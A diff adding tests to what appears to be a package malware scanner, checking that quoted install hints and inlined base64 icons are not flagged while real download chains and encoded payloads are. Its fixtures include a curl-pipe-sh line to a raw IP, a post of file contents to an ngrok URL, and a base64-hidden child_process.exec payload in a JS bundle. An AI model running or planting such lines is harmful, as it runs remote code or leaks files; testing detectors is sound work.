@@ -69,6 +69,28 @@ def test_a_shell_installer_line_returned_by_a_function_is_not_a_download_chain(t
     assert "chain.download_execute" in _ids(res)
 
 
+def test_an_install_command_quoted_in_a_message_is_an_instruction(tmp_path):
+    """An import that fails tells the user "install it with: curl … | sh"; a module that holds
+    the bare command line on load, or runs it, keeps the download chain."""
+    message = (
+        b"try:\n"
+        b"    import beamtool\n"
+        b"except ImportError as e:\n"
+        b"    raise ImportError(\n"
+        b"        'beamtool is missing. Please install it with: '\n"
+        b"        'curl -sSfL https://example.invalid/get.sh | sh'\n"
+        b"    ) from e\n"
+    )
+    res = _scan(tmp_path, {"pkg/__init__.py": message})
+    assert any(h.capability == "process.shell_download" for h in res.findings)
+    assert "chain.download_execute" not in _ids(res)
+    assert res.risk.level not in HIGH
+
+    held = b"CMD = 'curl -sSfL http://203.0.113.7/get.sh | sh'\n"
+    res = _scan(tmp_path, {"pkg/__init__.py": held}, "b")
+    assert "chain.download_execute" in _ids(res)
+
+
 def test_a_webhook_url_in_a_docstring_is_an_example_not_an_endpoint(tmp_path):
     """A webhooks API documents itself with a request-catcher URL; posting there is exfiltration."""
     documented = (
@@ -165,3 +187,32 @@ def test_a_domain_list_in_a_data_file_is_a_list_not_an_endpoint(tmp_path):
     code = b"import requests\nrequests.post('https://abc123.ngrok.io/up', data=open('x').read())\n"
     res = _scan(tmp_path, {"pkg/__init__.py": code}, "b")
     assert "chain.exfil_endpoint" in _ids(res)
+
+
+def _bundle(blob: str) -> bytes:
+    return (
+        "var icon = 'data:image/svg+xml;base64," + blob + "';\n"
+        "function compile(args, body) { return new Function(args, body); }\n"
+        "module.exports = { icon: icon, compile: compile };\n"
+    ).encode()
+
+
+def test_an_inlined_icon_or_number_table_beside_a_template_compiler_is_not_a_payload(tmp_path):
+    """Web bundles inline SVG icons as base64 and pack lookup tables as hex beside a template
+    compiler's ``new Function``; base64 that decodes to code beside it stays a disguise."""
+    import base64
+
+    svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 16 16">' + (
+        '<path d="M1 1h14v14H1z" fill="#fff"/>' * 40
+    )
+    icon = base64.b64encode(svg.encode()).decode()
+    table = bytes(range(256)).hex() * 3  # numbers packed as bytes, like a colour table
+    for n, blob in enumerate((icon, table)):
+        res = _scan(tmp_path, {"pkg/static/bundle.js": _bundle(blob)}, f"benign{n}")
+        assert any(h.capability == "obf.encoded_blob" for h in res.findings), n
+        assert "disguise.encoded_exec" not in _ids(res), n
+
+    code = "require('child_process').exec('id > /tmp/x');\n" * 40
+    hidden = base64.b64encode(code.encode()).decode()
+    res = _scan(tmp_path, {"pkg/static/bundle.js": _bundle(hidden)}, "payload")
+    assert "disguise.encoded_exec" in _ids(res)
